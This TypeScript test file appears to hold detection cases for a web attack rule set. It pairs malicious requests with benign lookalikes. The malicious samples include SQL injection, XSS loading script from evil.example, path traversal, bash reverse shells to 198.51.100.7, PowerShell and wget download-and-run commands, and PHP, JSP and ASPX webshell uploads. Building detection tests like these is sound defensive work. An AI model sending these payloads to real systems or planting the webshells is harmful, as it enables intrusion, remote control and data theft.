import { agent, answered, get, post, type OwnCase } from './own-made.ts';

const chopper = `z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIp&z1=L3Zhci93d3c`;
const upload = (name: string, content: string): string =>
  `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\n\r\n${content}\r\n--b--\r\n`;
const pages = get('/search?q=union+select+committee+from');
const note = post('comment=Please+select+an+option+or+sleep+on+it&name=Ada');

export const WEB_CASES: readonly OwnCase[] = [
  [1990100, get("/item?id=1'+UNION+SELECT+user,password+FROM+users--+"), get('/news?q=union+members+select+committee')],
  [1990100, get('/item?id=1/**/union/**/all/**/select/**/1,2,3'), get('/item?union=1&select=2')],
  [
    1990101,
    post('id=1%27%20UNION%20ALL%20SELECT%20null,version()--'),
    post('text=the+union+will+select+its+delegates'),
  ],
  [1990102, get('/?id=1+and+(select+count(*)+from+information_schema.tables)>0'), get('/docs?page=information_schema')],
  [1990103, post('q=1+union+select+table_name+from+information_schema.columns'), post('q=information_schema.tables')],
  [1990104, get('/?id=1;select+pg_sleep(5)--'), get('/docs/pg_sleep')],
  [1990105, post('id=1;select pg_sleep(10)'), post('q=pg_sleep')],
  [1990106, get("/?id=1;WAITFOR+DELAY+'0:0:5'--"), get('/?q=waitfor+delay')],
  [1990107, post("id=1;waitfor%20delay%20'0:0:9'"), post('q=we+waitfor+delayed+trains')],
  [1990108, get("/?id=1'+AND+SLEEP(5)--+"), get('/music?q=love+and+sleep')],
  [1990109, post("id=1')+or+sleep(3)#"), note],
  [1990110, get('/?id=1+and+extractvalue(1,concat(0x7e,version()))'), get('/?color=0xff&fn=extractvalue')],
  [1990111, post('id=1 and updatexml(1,concat(0x7e,user()),1)'), post('id=0x7e')],
  [1990112, get("/?id=1;exec+master..xp_cmdshell+'whoami'"), get('/docs/xp_sendmail')],
  [1990113, post("id=1;exec xp_cmdshell 'dir'"), post('id=1')],
  [1990114, get("/?id=1+union+select+'x'+into+outfile+'/var/www/a.php'"), get('/?q=put+select+words+into+a+file')],
  [1990115, post("q=select 1 into dumpfile '/tmp/a'"), post('q=select+all+into+outfile')],
  [1990116, get("/?id=1'+or+'1'%3D'1"), get("/?q=it's+mine+or+yours")],
  [1990116, get("/?id=1'%20or%201=1--"), pages],
  [1990117, post('user=admin%27+or+1%3D1--&pw=x'), post('user=o%27connor+or+his+son&pw=1%3D1')],
  [1990120, get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'), get('/?q=%3Cscript+languages%3E')],
  [1990120, get('/?q="><script src=//evil.example/x.js></script>'), get('/docs?topic=script+alert(1)')],
  [1990121, get('/?q=%3Cimg+src%3Dx%20onerror%3Dalert(1)%3E'), get('/?q=a<b&on=error')],
  [1990122, post('name=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'), post('html=<p>a manuscript</p>')],
  [1990125, get('/view?file=../../../../etc/passwd'), get('/blog/etc/passwords')],
  [1990126, get('/view?file=..%5c..%5cwindows%5cwin.ini'), get('/config/app.ini')],
  [1990127, get('/static/%2e%2e/%2e%2e/%2e%2e/secret'), get('/a%2fb/%2e%2e/c?x=1%2e%2e2')],
  [1990128, get('/?page=/proc/self/environ'), get('/docs/proc/selfish')],
  [1990129, get('/?page=php://filter/convert.base64-encode/resource=index'), get('/docs?q=php://streams')],
  [1990131, get('/cgi?x=;bash+-i+>%26+/dev/tcp/198.51.100.7/4444'), get('/docs/dev/tcp/')],
  [1990132, post('cmd=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'), post('text=see /dev/tcp in the manual')],
  [
    1990133,
    get("/x?c=powershell+IEX(New-Object+Net.WebClient).DownloadString('http://h/a')"),
    get('/learn/powershell?topic=downloadstring'),
  ],
  [
    1990134,
    post('c=powershell -c "IEX (New-Object Net.WebClient).DownloadString(1)"'),
    post('q=Net.WebClient DownloadString'),
  ],
  [1990134, post('c=PowerShell x; (new-object net.webclient).downloadstring(1) | powershell'), post('q=powershell')],
  [1990135, get('/x?c=;wget+http://198.51.100.7/a.sh;sh+a.sh'), get('/x?c=http://h/wget;sh')],
  [1990136, answered('uid=0(root) gid=0(root) groups=0(root)\n'), answered('uid=1000(ada) gid=1000(ada)')],
  [1990140, post(chopper), post('z0=hello&z1=world')],
  [1990141, post('a=Response.Write("->|");var x=1;'), post('a=Response.Write("hello")')],
  [1990142, agent('antSword/v2.1'), agent('Mozilla/5.0 sword')],
  [
    1990143,
    post(upload('a.php', "<?php eval($_POST['x']); ?>")),
    post(upload('a.php', "<?php echo $_GET['name']; ?>")),
  ],
  [
    1990144,
    post(upload('a.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>')),
    post(upload('a.jsp', '<% out.print(request.getParameter("c")); %>')),
  ],
  [
    1990145,
    post(upload('a.aspx', '<%eval(Request.Item["x"],"unsafe");%>')),
    post(upload('a.asp', '<% x = Request.Form("a") %>')),
  ],
  [1990146, get('/uploads/c99.php'), get('/c99/index.php')],
  [1990147, get('/up/a.php?cmd=whoami'), get('/api.php?cmd=identify')],
  [1990148, get('/up/a.jsp?x=1&exec=id'), get('/jobs.jsp?exec=idle')],
  [1990149, get('/up/a.aspx?command=cmd.exe+/c+ipconfig'), get('/a.aspx?command=listing')],
  [1990150, get('/up/a.php?shell=uname+-a'), get('/shop.php?shell=id-card')],
];
